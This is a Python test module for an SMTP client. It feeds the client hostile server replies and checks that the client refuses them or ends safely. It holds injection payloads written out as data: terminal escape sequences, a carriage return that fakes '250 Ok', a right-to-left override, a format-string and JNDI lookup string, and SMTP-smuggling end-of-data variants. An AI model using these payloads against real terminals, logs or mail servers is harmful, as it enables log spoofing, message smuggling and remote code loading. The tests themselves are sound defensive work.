"""Texts that do harm.

What a server says ends up in logs and on terminals, and must not steer them; and what a client sends ends
where a server takes it to end, which is not always where RFC 5321 has it (SMTP smuggling).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.case import Must, Step, case

if TYPE_CHECKING:
    from tests.hostile.conversation import Conversation

TEXTS = {
    "a_terminal_command": b"\x1b]0;owned\x07\x1b[2J\x1b[1;1H250 Ok",
    "a_nul": b"No\0 such user",
    "a_carriage_return": b"No such user\r250 2.1.5 Ok",
    "backspaces": b"No" + 2 * b"\x08" + b"250 Ok",
    "c1_controls": b"\x9b2J\x85" + "\x9b2J\x85\u2028".encode(),
    "text_that_turns_around": "No \u202eko 052".encode(),
    "octets_that_are_no_text": bytes(range(128, 256)),
    "a_format": b"%s%n {0.__class__} ${jndi:ldap://example.net/}",
}
STEERING = "CWE-150, CWE-117"


def some(*names: str) -> dict[str, bytes]:
    return {name: TEXTS[name] for name in names}


@case(Must.RAISE, STEERING, each=TEXTS)
def refuses_by(c: Conversation, text: bytes) -> None:
    """Refuses the recipient with {} in the text."""
    c.serve(until=Step.RCPT)
    c.send(b"550 " + text + b"\r\n")
    c.serve()


@case(Must.RAISE, STEERING, each=some("a_terminal_command", "a_carriage_return", "text_that_turns_around"))
def refuses_starttls_by(c: Conversation, text: bytes) -> None:
    """Refuses STARTTLS with {} in the text."""
    c.serve(until=Step.STARTTLS)
    c.send(b"454 " + text + b"\r\n")
    c.serve()


@case(Must.RAISE, STEERING, each=some("a_terminal_command", "a_nul", "octets_that_are_no_text"))
def says_goodbye_by(c: Conversation, text: bytes) -> None:
    """Greets by 421 with {} in the text, and closes."""
    c.serve(until=Step.GREETING)
    c.send(b"421 " + text + b"\r\n")
    c.close()


@case(Must.END, STEERING, each=TEXTS)
def offers(c: Conversation, text: bytes) -> None:
    """Offers an extension with {} in its name."""
    c.serve(until=Step.EHLO_IN_TLS)
    c.send(b"250-mail.example.org\r\n250-" + text + b"\r\n250 AUTH PLAIN\r\n")
    c.serve()


LOOSE_ENDS = {
    "lf_dot_lf": b"\n.\n",
    "lf_dot_crlf": b"\n.\r\n",
    "crlf_dot_lf": b"\r\n.\n",
    "cr_dot_cr": b"\r.\r",
    "cr_dot_crlf": b"\r.\r\n",
    "crlf_nul_dot_crlf": b"\r\n\0.\r\n",
}


@case(
    Must.COMPLETE,
    "SMTP smuggling (Longin 2023), CVE-2023-51764, CVE-2023-51765, CVE-2023-51766",
    each=LOOSE_ENDS,
    message="smuggling",
)
def loose_end(c: Conversation, end: bytes) -> None:
    """Takes {} for the end of a message as well; the message holds one, and a second message behind it."""
    c.ends_of_data = (end, b"\r\n.\r\n")
    c.serve()
